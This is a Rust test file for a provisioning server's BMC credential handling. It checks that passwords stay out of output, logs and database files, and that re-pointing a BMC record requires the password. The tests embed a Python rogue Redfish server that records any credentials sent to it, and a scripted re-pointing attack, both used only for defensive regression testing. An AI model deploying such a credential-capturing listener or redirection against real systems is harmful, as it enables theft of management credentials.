//! BMC records: the password goes in and never comes out.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use bellows_testkit::bmc::{self as emulators, IpmiSim};
use bellows_testkit::files::write_file;
use bellows_testkit::packages::ensure_programs;
use bellows_testkit::ports::free_tcp_port;
use bellows_testkit::process::{ChildGuard, run_checked, wait_for};
use serde_json::json;

use crate::harness::{Server, http, ok, server_refuses};

const PASSWORD: &str = "s3cret-Pa55word-never-shown";

#[test]
fn bmc_password_is_write_only() {
    let dir = tempfile::tempdir().unwrap();
    let s = Server::start_with(dir.path(), &["--log", "debug"]);
    let hw =
        json!({"id": "m1", "network": {"interfaces": [{"dhcp": {"mac": "02:00:00:00:0b:01"}}]}});
    http(
        "POST",
        &format!("{}/api/v1/hardware", s.url),
        Some(hw.to_string().as_bytes()),
    );

    // First set without a password: refused, naming the field.
    let (st, v) = http(
        "PUT",
        &format!("{}/api/v1/hardware/m1/bmc", s.url),
        Some(
            json!({"address": "10.0.0.9", "username": "admin"})
                .to_string()
                .as_bytes(),
        ),
    );
    assert_eq!((st, v["field"].as_str()), (422, Some("password")), "{v}");
    // Bad protocol, unknown machine.
    let (st, v) = http(
        "PUT",
        &format!("{}/api/v1/hardware/m1/bmc", s.url),
        Some(json!({"address": "10.0.0.9", "username": "admin", "password": "x", "protocol": "telnet"}).to_string().as_bytes()),
    );
    assert_eq!((st, v["field"].as_str()), (422, Some("protocol")), "{v}");
    let (st, _) = http(
        "PUT",
        &format!("{}/api/v1/hardware/nope/bmc", s.url),
        Some(
            json!({"address": "10.0.0.9", "username": "admin", "password": "x"})
                .to_string()
                .as_bytes(),
        ),
    );
    assert_eq!(st, 404);

    // Through the CLI, password on stdin.
    let out = ok(&s.cli_stdin(
        &[
            "bmc",
            "set",
            "02:00:00:00:0b:01",
            "--address",
            "10.0.0.9",
            "--protocol",
            "ipmi",
            "-u",
            "admin",
            "--password-stdin",
        ],
        Some(format!("{PASSWORD}\n").as_bytes()),
    ));
    assert!(out.contains("10.0.0.9") && out.contains("ipmi"), "{out}");
    // A new address without the password: refused (see
    // `repointing_a_bmc_needs_the_password_again`); the same endpoint
    // without one keeps the stored password.
    let (st, v) = http(
        "PUT",
        &format!("{}/api/v1/hardware/m1/bmc", s.url),
        Some(
            json!({"address": "10.0.0.10", "username": "admin", "protocol": "redfish"})
                .to_string()
                .as_bytes(),
        ),
    );
    assert_eq!(
        (st, v["code"].as_str(), v["field"].as_str()),
        (422, Some("password_required"), Some("password")),
        "{v}"
    );
    let (st, v) = http(
        "PUT",
        &format!("{}/api/v1/hardware/m1/bmc", s.url),
        Some(
            json!({"address": "10.0.0.9", "username": "admin", "protocol": "ipmi"})
                .to_string()
                .as_bytes(),
        ),
    );
    assert_eq!(st, 200, "{v}");
    let (st, v) = http(
        "PUT",
        &format!("{}/api/v1/hardware/m1/bmc", s.url),
        Some(
            json!({"address": "10.0.0.10", "username": "admin", "protocol": "redfish", "password": PASSWORD})
                .to_string()
                .as_bytes(),
        ),
    );
    assert_eq!(st, 200, "{v}");

    let mut seen = Vec::new();
    for args in [
        vec!["bmc", "get", "m1", "-o", "json"],
        vec!["bmc", "list", "-o", "yaml"],
        vec!["bmc", "list"],
        vec!["hardware", "get", "m1", "-o", "json"],
    ] {
        seen.push(ok(&s.cli(&args)));
    }
    let (_, v) = http("GET", &format!("{}/api/v1/hardware/m1/bmc", s.url), None);
    assert_eq!(v["has_password"], true);
    assert_eq!(v["address"], "10.0.0.10");
    seen.push(v.to_string());
    seen.extend(s.drain_log());
    for text in &seen {
        assert!(!text.contains(PASSWORD), "the password leaked: {text}");
    }

    ok(&s.cli(&["bmc", "delete", "m1"]));
    let (st, _) = http("GET", &format!("{}/api/v1/hardware/m1/bmc", s.url), None);
    assert_eq!(st, 404);
}

/// Power commands fail fast and clearly when a machine has no BMC or its
/// BMC does not answer, and the password stays out of every message.
#[test]
fn power_commands_report_missing_and_unreachable_bmcs() {
    let dir = tempfile::tempdir().unwrap();
    let s = Server::start(dir.path());
    let hw =
        json!({"id": "m2", "network": {"interfaces": [{"dhcp": {"mac": "02:00:00:00:0b:02"}}]}});
    http(
        "POST",
        &format!("{}/api/v1/hardware", s.url),
        Some(hw.to_string().as_bytes()),
    );
    let out = s.cli(&["power", "status", "m2"]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("has no BMC") && err.contains("409"), "{err}");

    // IPMI to a loopback port where nothing listens: an error in seconds.
    ok(&s.cli_stdin(
        &[
            "bmc",
            "set",
            "m2",
            "--address",
            "127.0.0.1",
            "--port",
            "9",
            "--protocol",
            "ipmi",
            "-u",
            "admin",
            "--password-stdin",
        ],
        Some(format!("{PASSWORD}\n").as_bytes()),
    ));
    for args in [
        vec!["power", "status", "m2"],
        vec!["power", "on", "m2"],
        vec!["boot-device", "pxe", "m2", "--efi"],
        vec!["netboot", "m2"],
    ] {
        let start = Instant::now();
        let out = s.cli(&args);
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(!out.status.success(), "{args:?} succeeded against nothing");
        assert!(
            start.elapsed() < Duration::from_secs(45),
            "{args:?} hung: {:?}",
            start.elapsed()
        );
        assert!(
            err.contains("127.0.0.1") && (err.contains("504") || err.contains("502")),
            "{args:?}: {err}"
        );
        assert!(!err.contains(PASSWORD), "password in {err}");
    }
    let listed = ok(&s.cli(&["bmc", "list"]));
    assert!(listed.contains("m2"), "{listed}");
    for line in s.drain_log() {
        assert!(
            !line.contains(PASSWORD),
            "password in the server log: {line}"
        );
    }
}

/// The attacker's "BMC": a Redfish-shaped HTTPS service on 127.0.0.1 with a
/// self-signed certificate that writes down every credential it is sent
/// (HTTP basic auth, as Redfish clients send it) and refuses everything.
struct RogueRedfish {
    port: u16,
    dir: tempfile::TempDir,
    _process: ChildGuard,
}

const ROGUE: &str = r#"
import base64, http.server, ssl, sys
port, cert, key, loot = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
class Handler(http.server.BaseHTTPRequestHandler):
    def answer(self):
        auth = self.headers.get("Authorization", "")
        got = ""
        if auth.startswith("Basic "):
            got = base64.b64decode(auth[6:]).decode(errors="replace")
        with open(loot, "a") as f:
            f.write(f"{self.command} {self.path} credentials={got}\n")
        self.send_response(401)
        self.send_header("Content-Length", "0")
        self.end_headers()
    do_GET = do_POST = do_PATCH = do_PUT = do_DELETE = answer
    def log_message(self, *args):
        pass
server = http.server.HTTPServer(("127.0.0.1", port), Handler)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(cert, key)
server.socket = context.wrap_socket(server.socket, server_side=True)
server.serve_forever()
"#;

impl RogueRedfish {
    fn start() -> RogueRedfish {
        ensure_programs(&["python3", "openssl"], &["python3", "openssl"]);
        let dir = tempfile::tempdir().unwrap();
        let (cert, key) = (dir.path().join("cert.pem"), dir.path().join("key.pem"));
        run_checked(
            Command::new("openssl")
                .args([
                    "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
                ])
                .args(["-subj", "/CN=127.0.0.1", "-keyout"])
                .arg(&key)
                .arg("-out")
                .arg(&cert)
                .stderr(Stdio::null()),
            "openssl req",
        );
        let script = dir.path().join("rogue.py");
        write_file(&script, ROGUE);
        let port = free_tcp_port();
        let process = ChildGuard::spawn(
            "rogue redfish",
            Command::new("python3")
                .arg(&script)
                .arg(port.to_string())
                .arg(&cert)
                .arg(&key)
                .arg(dir.path().join("loot")),
        );
        assert!(
            wait_for(Duration::from_secs(15), || {
                std::net::TcpStream::connect(("127.0.0.1", port)).is_ok()
            }),
            "the rogue Redfish service did not start"
        );
        RogueRedfish {
            port,
            dir,
            _process: process,
        }
    }

    /// Every request it received, with the credentials it carried.
    fn loot(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("loot")).unwrap_or_default()
    }
}

/// Issue 12: a PUT that re-points a BMC record to a host the caller
/// controls, without the password, used to keep the stored password and
/// send it there on the next power call. Now any change of where or as
/// whom the password goes needs the password in the same request; the
/// refused request changes nothing and the rogue never hears from Bellows.
#[test]
fn repointing_a_bmc_needs_the_password_again() {
    let sim = IpmiSim::start();
    let rogue = RogueRedfish::start();
    let dir = tempfile::tempdir().unwrap();
    let s = Server::start_with(
        dir.path(),
        &["--tftp-listen", "off", "--syslog-listen", "off"],
    );
    let hw =
        json!({"id": "m3", "network": {"interfaces": [{"dhcp": {"mac": "02:00:00:00:0b:03"}}]}});
    let (st, _) = http(
        "POST",
        &format!("{}/api/v1/hardware", s.url),
        Some(hw.to_string().as_bytes()),
    );
    assert_eq!(st, 201);
    let sim_port = sim.port.to_string();
    ok(&s.cli_stdin(
        &[
            "bmc",
            "set",
            "m3",
            "--address",
            "127.0.0.1",
            "--port",
            &sim_port,
            "--protocol",
            "ipmi",
            "-u",
            emulators::USERNAME,
            "--password-stdin",
        ],
        Some(format!("{}\n", emulators::PASSWORD).as_bytes()),
    ));
    let out = ok(&s.cli(&["power", "status", "m3"]));
    assert!(out.contains("off"), "{out}");

    let bmc_url = format!("{}/api/v1/hardware/m3/bmc", s.url);
    let legit = json!({"address": "127.0.0.1", "port": sim.port, "protocol": "ipmi",
                       "username": emulators::USERNAME});
    let (_, before) = http("GET", &bmc_url, None);
    // The attack: same address, the rogue's port, Redfish, and no
    // certificate check (the rogue's certificate is self-signed).
    let attack = json!({"address": "127.0.0.1", "port": rogue.port, "protocol": "redfish",
                        "username": emulators::USERNAME, "insecure_tls": true});
    let (st, v) = http("PUT", &bmc_url, Some(attack.to_string().as_bytes()));
    // The next power call goes wherever the record now points.
    let power = s.cli(&["power", "status", "m3"]);
    let loot = rogue.loot();
    assert!(
        !loot.contains(emulators::PASSWORD),
        "the stored password was sent to the rogue BMC: {loot}"
    );
    assert!(loot.is_empty(), "the rogue BMC was contacted: {loot}");
    assert_eq!(
        (st, v["code"].as_str(), v["field"].as_str()),
        (422, Some("password_required"), Some("password")),
        "{v}"
    );
    let message = v["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("port")
            && message.contains("protocol")
            && message.contains("insecure_tls"),
        "{message}"
    );
    let out = ok(&power);
    assert!(out.contains("off"), "still the real BMC: {out}");
    // A refused PUT changes nothing (the power readings are the poll's).
    let (_, after) = http("GET", &bmc_url, None);
    let endpoint = |v: &serde_json::Value| {
        [
            "address",
            "port",
            "protocol",
            "username",
            "insecure_tls",
            "has_password",
        ]
        .map(|k| v[k].clone())
    };
    assert_eq!(endpoint(&after), endpoint(&before));

    // Each endpoint field alone is enough to need the password.
    for (field, value) in [
        ("address", json!("localhost")),
        ("port", json!(rogue.port)),
        ("protocol", json!("auto")),
        ("username", json!("root")),
        ("insecure_tls", json!(true)),
    ] {
        let mut body = legit.clone();
        body[field] = value;
        let (st, v) = http("PUT", &bmc_url, Some(body.to_string().as_bytes()));
        assert_eq!(
            (st, v["code"].as_str()),
            (422, Some("password_required")),
            "{field}: {v}"
        );
    }
    // The same endpoint without the password is a harmless update: kept.
    let (st, v) = http("PUT", &bmc_url, Some(legit.to_string().as_bytes()));
    assert_eq!(st, 200, "{v}");
    let out = ok(&s.cli(&["power", "status", "m3"]));
    assert!(out.contains("off"), "the kept password still works: {out}");
    assert!(rogue.loot().is_empty(), "{}", rogue.loot());

    // Whoever gives a password may point the record anywhere: the rogue
    // then gets what it was given, never the stored one.
    let mut with_password = attack.clone();
    with_password["password"] = json!("typed-in-by-whoever-repoints");
    let (st, v) = http("PUT", &bmc_url, Some(with_password.to_string().as_bytes()));
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["port"], json!(rogue.port));
    let out = s.cli(&["power", "status", "m3"]);
    assert!(!out.status.success());
    let loot = rogue.loot();
    assert!(loot.contains("typed-in-by-whoever-repoints"), "{loot}");
    assert!(!loot.contains(emulators::PASSWORD), "{loot}");
    for line in s.drain_log() {
        assert!(
            !line.contains(emulators::PASSWORD),
            "password in the log: {line}"
        );
    }
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o7777
}

/// Issue 12: BMC passwords were clear text in a 0644 database in a 0755
/// directory. Now the data directory is 0700, the database files and the
/// secret key 0600, the file holds no password, and a server given
/// another key, or a key others can read, refuses to start.
#[test]
fn bmc_passwords_are_sealed_and_the_data_directory_is_private() {
    let parent = tempfile::tempdir().unwrap();
    let data = parent.path().join("data");
    let s = Server::start_with(&data, &["--tftp-listen", "off", "--syslog-listen", "off"]);
    let hw =
        json!({"id": "m4", "network": {"interfaces": [{"dhcp": {"mac": "02:00:00:00:0b:04"}}]}});
    http(
        "POST",
        &format!("{}/api/v1/hardware", s.url),
        Some(hw.to_string().as_bytes()),
    );
    ok(&s.cli_stdin(
        &[
            "bmc",
            "set",
            "m4",
            "--address",
            "10.0.0.9",
            "--protocol",
            "ipmi",
            "-u",
            "admin",
            "--password-stdin",
        ],
        Some(format!("{PASSWORD}\n").as_bytes()),
    ));
    assert_eq!(mode(&data), 0o700);
    for name in [
        "bellows.db",
        "bellows.db-wal",
        "bellows.db-shm",
        "secret.key",
    ] {
        assert_eq!(mode(&data.join(name)), 0o600, "{name}");
    }
    let mut raw = Vec::new();
    for name in ["bellows.db", "bellows.db-wal"] {
        raw.extend(std::fs::read(data.join(name)).unwrap_or_default());
    }
    assert!(
        !raw.windows(PASSWORD.len())
            .any(|w| w == PASSWORD.as_bytes()),
        "the password is in the database files"
    );
    let (status, _) = s.terminate();
    assert!(status.success());
    // sqlite3, not our code, reads the file: a sealed value.
    ensure_programs(&["sqlite3"], &["sqlite3"]);
    let shown = run_checked(
        Command::new("sqlite3")
            .arg(data.join("bellows.db"))
            .arg("SELECT secret FROM bmc"),
        "sqlite3",
    );
    assert!(
        shown.starts_with("v1:") && !shown.contains(PASSWORD),
        "{shown}"
    );

    // Another key: refused, naming the BMC and the flag; the key made for
    // the attempt is not left behind.
    let other = parent.path().join("other.key");
    let err = server_refuses(&data, &["--secret-key-file", other.to_str().unwrap()]);
    assert!(
        err.contains("m4") && err.contains("--secret-key-file") && err.contains("not the one"),
        "{err}"
    );
    assert!(!other.exists(), "{err}");

    // A key file others can read: refused, naming the fix.
    let key = data.join("secret.key");
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o644)).unwrap();
    let err = server_refuses(&data, &[]);
    assert!(
        err.contains(&key.display().to_string()) && err.contains("chmod 600"),
        "{err}"
    );
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();

    // Loosened by hand: tightened at the next start, and the key still works.
    std::fs::set_permissions(&data, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(
        data.join("bellows.db"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    let s = Server::start_with(&data, &["--tftp-listen", "off", "--syslog-listen", "off"]);
    assert_eq!(mode(&data), 0o700);
    assert_eq!(mode(&data.join("bellows.db")), 0o600);
    let (st, v) = http(
        "PUT",
        &format!("{}/api/v1/hardware/m4/bmc", s.url),
        Some(
            json!({"address": "10.0.0.9", "protocol": "ipmi", "username": "admin"})
                .to_string()
                .as_bytes(),
        ),
    );
    assert_eq!(st, 200, "the sealed password is still there to keep: {v}");
}
